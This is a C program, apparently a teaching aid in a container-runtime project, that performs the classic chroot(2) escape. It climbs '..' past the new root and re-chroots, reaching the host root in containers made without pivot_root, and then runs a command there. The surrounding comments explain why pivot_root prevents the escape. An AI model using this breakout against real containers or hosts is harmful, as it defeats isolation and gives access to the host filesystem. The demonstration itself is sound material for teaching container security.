/* The chroot(2) escape that pivot_root(2) prevents (docs/TOUR.md, "Mount
 * namespace and pivot_root").
 *
 * chroot(2) changes a process's root directory but not its working
 * directory. So: chroot into a subdirectory while the working directory
 * stays above it, walk ".." up from there (nothing stops the walk: the
 * working directory is outside the new root), and chroot(".") wherever
 * the walk ends. In a container made with chroot alone (pyrun --no-pivot,
 * runc --no-pivot), the walk ends at the host's root directory, still
 * mounted under the container's. After pivot_root(2) and the unmount of
 * the old root, the walk ends at the container's own root: there is
 * nothing above it left in the mount namespace.
 *
 * Needs CAP_SYS_CHROOT. Usage: chroot-escape COMMAND [ARG...]: escapes,
 * then runs COMMAND in the root it reached.
 */
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: %s COMMAND [ARG...]\n", argv[0]);
        return 2;
    }
    if (chroot("/bin") != 0) {  /* any directory below the root; cwd stays at / */
        perror("chroot(/bin)");
        return 1;
    }
    for (int i = 0; i < 64; i++)  /* up, past the container's root if anything is above it */
        if (chdir("..") != 0) {
            perror("chdir(..)");
            return 1;
        }
    if (chroot(".") != 0) {
        perror("chroot(.)");
        return 1;
    }
    execvp(argv[1], argv + 1);
    perror(argv[1]);
    return 127;
}
